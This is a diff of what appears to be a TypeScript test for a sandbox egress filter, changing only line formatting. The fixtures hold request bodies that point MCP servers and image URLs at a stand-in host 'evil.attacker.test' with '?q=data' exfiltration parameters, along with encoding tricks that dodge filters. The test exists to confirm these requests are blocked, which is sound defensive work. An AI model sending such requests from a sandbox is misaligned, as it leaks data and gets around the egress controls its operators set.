@@ -8,9 +8,11 @@ const BODIES: Readonly<Record<string, string>> = {
   'mcp-servers': '{"mcp_servers":[{"type":"url","url":"https://evil.attacker.test/"}]}',
   'mcp-escaped': '{"\\u006dcp_servers":[]}',
   'mcp-tool': '{"tools":[{"type":"mcp","server_url":"https://evil.attacker.test/"}]}',
-  'image-url': '{"messages":[{"content":[{"type":"image","source":{"type":"url","url":"https://evil.attacker.test/?q=data"}}]}]}',
+  'image-url':
+    '{"messages":[{"content":[{"type":"image","source":{"type":"url","url":"https://evil.attacker.test/?q=data"}}]}]}',
   'file-id': '{"messages":[{"content":[{"type":"document","source":{"type":"file","file_id":"file_1"}}]}]}',
-  'image-openai': '{"input":[{"content":[{"type":"input_image","image_url":"https://evil.attacker.test/?q=data"}]}]}',
+  'image-openai':
+    '{"input":[{"content":[{"type":"input_image","image_url":"https://evil.attacker.test/?q=data"}]}]}',
   'case-scheme': '{"input":[{"image_url":"HtTpS://evil.attacker.test/"}]}',
   'blank-scheme': '{"input":[{"image_url":" \\t\\nht\\ntps://evil.attacker.test/"}]}',
   'case-type': '{"tools":[{"type":"Web_Fetch_20250910"}]}',
@@ -25,7 +27,15 @@ const BODIES: Readonly<Record<string, string>> = {
   bom: '\ufeff{"mcp_servers":[]}',
   comment: '{"a":1/*,*/,"mcp_servers":[]}',
 };
-const PATHS = ['/v1/oauth/token', '/oauth/token', '/v1/organizations/api_keys', '/v1/files', '/v1/messages/batches', '/v1/realtime/sessions', '/v1/skills'];
+const PATHS = [
+  '/v1/oauth/token',
+  '/oauth/token',
+  '/v1/organizations/api_keys',
+  '/v1/files',
+  '/v1/messages/batches',
+  '/v1/realtime/sessions',
+  '/v1/skills',
+];
 
 forEachTier('the allowed host neither fetches, runs, stores nor mints for the sandbox', async (tier) => {
   await using box = new EgressBox(tier);
@@ -39,7 +49,14 @@ ask('utf16', body='{"mcp_servers":[]}'.encode('utf-16'), lines=(OWN, 'Content-Ty
 ask('gzip', body=gzip.compress(b'{"mcp_servers":[]}'), lines=(OWN, 'Content-Type: application/json', 'Content-Encoding: gzip'))
 control()
 `);
-  const names = [...Object.keys(BODIES), ...PATHS.map((_, at) => `path${at}`), 'text-type', 'no-type', 'utf16', 'gzip'];
+  const names = [
+    ...Object.keys(BODIES),
+    ...PATHS.map((_, at) => `path${at}`),
+    'text-type',
+    'no-type',
+    'utf16',
+    'gzip',
+  ];
   const betas = ['files-api-2025-04-14', 'MCP-Client-2025-04-04', 'x,code-execution-2025-05-22'];
   box.expectHeld(result, Object.fromEntries([...names, ...betas].map((name) => [name, '40'])));
 });
